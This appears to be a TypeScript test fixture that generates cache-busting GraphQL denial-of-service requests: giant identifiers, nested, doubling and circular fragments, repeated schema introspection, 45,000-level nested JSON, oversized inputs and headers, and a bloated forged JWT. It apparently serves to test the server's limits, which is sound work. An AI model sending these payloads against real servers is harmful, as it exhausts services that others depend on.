/** Requests that cost a server more than they cost their sender: each as large as the limits let it be. */

export interface Costly {
  readonly body: string;
  readonly headers?: Record<string, string>;
}

const times = (count: number, text: (index: number) => string) =>
  Array.from({ length: count }, (_, at) => text(at)).join(' ');
const asking = (query: string, variables?: object) => ({ body: JSON.stringify({ query, variables }) });
const START = 'mutation M($input: StartVerificationInput!) { startVerification(input: $input) { __typename } }';
const SEND = 'mutation M($input: SendEmailVerificationInput!) { sendEmailVerification(input: $input) { __typename } }';
const TYPES = 'types { name fields { name args { name } } }';

/** By the attack; the number makes each request another one, which no cache knows. */
export const COSTLY: Readonly<Record<string, (number: number) => Costly>> = {
  'a name of 40,000 groups of digits': (at) => asking(`{ _${at}${'_1'.repeat(40_000)} }`),
  'a variable of 40,000 groups of digits': (at) => asking(`query($_${at}${'_1'.repeat(40_000)}: Int) { __typename }`),
  'ninety names of digits': (at) => asking(`{ ${times(90, (name) => `_${at}_${name}${'_1'.repeat(450)}`)} }`),
  'a comment of 90 kB': (at) => asking(`{ viewer { kind } } # ${at} ${'x'.repeat(90_000)}`),
  'a text of 90 kB': (at) => asking(`{ node(id: "${at}${'x'.repeat(90_000)}") { id } }`),
  'lines of a block string': (at) => asking(`{ node(id: """${at}${'\n'.repeat(45_000)}""") { id } }`),
  'unknown fields with names like known ones': (at) =>
    asking(`{ ${times(900, (name) => `verificationn${name}x${at}`)} }`),
  'unknown types with names like known ones': (at) =>
    asking(`query(${times(240, (name) => `$a${name}: StartVerificationInputt${name}x${at}`)}) { __typename }`),
  'aliases that conflict': (at) =>
    asking(`{ viewer { ${times(300, (name) => `a${at}: ${name % 2 ? 'kind' : 'mode'}`)} } }`),
  'one selection 160 times': (at) => asking(`{ ${times(160, () => 'viewer { kind mode }')} z${at}: __typename }`),
  'fragments within fragments': (at) =>
    asking(
      `{ viewer { a${at}: kind ...F0 } } ${times(100, (name) => `fragment F${name} on Viewer { kind ...F${name + 1} }`)} fragment F100 on Viewer { kind }`,
    ),
  'fragments that double': (at) =>
    asking(
      `{ viewer { a${at}: kind ...F0 } } ${times(70, (name) => `fragment F${name} on Viewer { ...F${name + 1} ...F${name + 1} }`)} fragment F70 on Viewer { kind }`,
    ),
  'fragments in circles': (at) =>
    asking(
      `{ viewer { a${at}: kind ...F0 } } ${times(19, (name) => `fragment F${name} on Viewer { ${times(20, (other) => `...F${other}`)} }`)}`,
    ),
  'aliases of the list of types': (at) => asking(`{ __schema { ${times(60, (name) => `a${at}x${name}: ${TYPES}`)} } }`),
  'the schema twenty times': (at) => asking(`{ ${times(19, (name) => `a${at}x${name}: __schema { ${TYPES} }`)} }`),
  'selections in one another': (at) =>
    asking(`{ viewer { a${at}: kind ${'... {'.repeat(320)} kind ${'}'.repeat(320)} } }`),
  'an input of 7,000 unknown fields': (at) =>
    asking(START, { input: Object.fromEntries(Array.from({ length: 7_000 }, (_, name) => [`k${name}x${at}`, 1])) }),
  'an input of 5,000 wrong steps': (at) =>
    asking(START, { input: { customerId: `${at}`, steps: Array.from({ length: 5_000 }, () => ({ channel: 'X' })) } }),
  'an input of lists in lists': (at) => ({
    body: `{"query":"${START}","variables":{"input":${'['.repeat(45_000)}${at}${']'.repeat(45_000)}}}`,
  }),
  'JSON that is open 99,000 times': (at) => ({ body: '['.repeat(99_000 - (at % 1_000)) }),
  'an id of 48,000 marks': (at) =>
    asking(SEND, { input: { customerId: `${at}a${'\u0301'.repeat(24_000)}${'\u0323'.repeat(24_000)}` } }),
  'a media type of spaces': (at) => ({
    ...asking(`{ a${at}: viewer { kind } }`),
    headers: { 'content-type': `application/json${' '.repeat(14_000)};x` },
  }),
  'a token of 8 kB': (at) => ({
    ...asking('{ viewer { kind } }'),
    headers: { authorization: `Bearer ${tokenOf(at)}` },
  }),
};

function tokenOf(at: number): string {
  const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
  return `${part({ alg: 'RS256', kid: 'x' })}.${part({ iss: `https://${at}.example`, aud: ['x'.repeat(5_800)] })}.AAAA`;
}
